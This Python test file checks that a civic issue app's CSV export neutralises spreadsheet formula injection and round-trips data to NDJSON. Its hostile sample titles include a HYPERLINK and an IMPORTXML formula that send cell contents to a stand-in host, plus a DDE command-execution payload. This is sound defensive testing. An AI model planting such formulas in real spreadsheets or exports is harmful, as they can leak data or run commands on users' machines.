"""A CSV export opened in a spreadsheet runs no formula written by a reporter, and an honest
reader who follows the dictionary's rule gets every value back exactly, numbers untouched."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import httpx
from sqlalchemy import update
from sqlalchemy.orm import Session

from app.db import Database
from app.models import Issue
from app.services import opendata
from tests.factories import make_category, make_issue, make_user

EXPORTS = "/api/v1/exports"
# What spreadsheets run as a formula, OWASP's list: each starts a title below.
HOSTILE_TITLES = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted by the reporter",
]
LONDON = (-0.1276, 51.5072)  # a negative longitude stays a number


def read_back(cell: str, field_type: str) -> Any:
    """What the dictionary tells a reader to do with a CSV cell."""
    if cell == "":
        return None
    if field_type == "string":
        return cell.removeprefix(opendata.CSV_ESCAPE)
    if field_type == "number":
        return float(cell)
    if field_type == "integer":
        return int(cell)
    return cell


async def test_formulas_are_neutralised_and_the_data_round_trips(
    client: httpx.AsyncClient, db: Session, database: Database
) -> None:
    category = make_category(db, "pothole")
    reporter = make_user(db)
    for title in HOSTILE_TITLES:
        make_issue(db, database.spatial, reporter=reporter, category=category, title=title)
    plain = make_issue(
        db,
        database.spatial,
        reporter=reporter,
        category=category,
        title="Pothole by the bridge",
        description='=IMPORTXML(CONCAT("https://evil.example/?", A2), "//a")',
        at=LONDON,
    )
    db.execute(update(Issue).where(Issue.id == plain.id).values(address="@Bridge Road"))
    db.commit()

    dictionary = (await client.get(f"{EXPORTS}/dictionary")).json()
    assert "'" in dictionary["csv_strings"]
    types = {f["name"]: f["type"] for f in dictionary["fields"]}

    exported = await client.get(f"{EXPORTS}/issues.csv")
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert [r["title"] for r in rows[:-1]] == [f"'{t}" for t in HOSTILE_TITLES]
    for row in rows:
        for name, cell in row.items():
            if types[name] == "string":
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    last = rows[-1]
    assert last["title"] == "Pothole by the bridge"
    assert last["description"].startswith("'=IMPORTXML(")
    assert last["address"] == "'@Bridge Road"
    assert float(last["longitude"]) == LONDON[0]
    assert last["longitude"].startswith("-")

    # NDJSON carries the values as written: the CSV, read by the rule, gives the same.
    ndjson = (await client.get(f"{EXPORTS}/issues.ndjson")).text.splitlines()
    records = [json.loads(line) for line in ndjson]
    assert records[-1]["title"] == "Pothole by the bridge"
    assert [r["title"] for r in records[:-1]] == HOSTILE_TITLES
    assert [{n: read_back(c, types[n]) for n, c in row.items()} for row in rows] == records
